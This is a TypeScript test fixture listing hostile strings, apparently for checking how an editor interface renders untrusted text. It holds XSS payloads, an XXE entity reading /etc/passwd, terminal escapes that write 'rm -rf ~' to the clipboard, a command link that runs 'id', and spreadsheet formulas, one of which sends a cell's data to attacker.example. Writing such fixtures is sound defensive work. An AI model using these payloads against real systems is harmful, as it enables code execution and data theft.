// Texts that some place in which they are shown would obey, by what they try.

const link = '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D)';

export const hostileTexts: Readonly<Record<string, string>> = {
  'a script': `</script></style></title></details>--><script>alert(1)</script><img src=x onerror=alert(1)>`,
  'an attribute': `" autofocus onfocus="alert(2)' x=\` style=position:fixed`,
  'an entity': '&lt;b&gt; &#x3c;script&#x3e; ]]> <![CDATA[ <?xml ?> <!ENTITY x SYSTEM "file:///etc/passwd">',
  'colours and cursor': 'a\u001B[31mred\u001B[2J\u001B[1;1H\u009B31m\b\b\bx',
  'clipboard and title': '\u001B]52;c;cm0gLXJmIH4=\u0007\u001B]0;title\u001B\\\u001BP+q\u001B\\',
  'another direction': 'user \u202Eexe.gpj\u202C \u2066a\u2069 \u061C\u200F\u200E',
  'no width': 'a\u200Bb\u2060c\uFEFFd\u00ADe\u180Ef',
  'invisible tags': `safe\u{E0001}\u{E0069}\u{E0067}\u{E006E}\u{E007F}`,
  'line breaks that are none': 'one\u2028two\u2029three\u0085four\rfive\u000Bsix\fseven',
  'half a character': 'a\uD83D b\uDE00 \uDFFF\uD800',
  zeros: 'a\0b\0',
  'a formula': '=HYPERLINK("https://attacker.example/?q="&A1,"click")',
  'other formulas': "+1+1|cmd|' /C calc'!A0\n-2+3\n@SUM(A1)\n\t=1+1\r=2",
  'a link that is a command': link,
  'a picture': '![x](https://attacker.example/p.png) <https://attacker.example> www.attacker.example',
  'a table and a fence': 'a | b\n--- | ---\n```js\nx\n```\n# head\n- [ ] task\n> quote @team #1',
  'a template': '${7*7} {{7*7}} {% for %} #{7*7} $(id) `id` %s %n',
  'a codicon': '$(error) $(loading~spin)',
  'a line of a megabyte': `x${'a"<&|'.repeat(200_000)}`,
  'many marks': `z${'\u0301'.repeat(5000)}`,
};
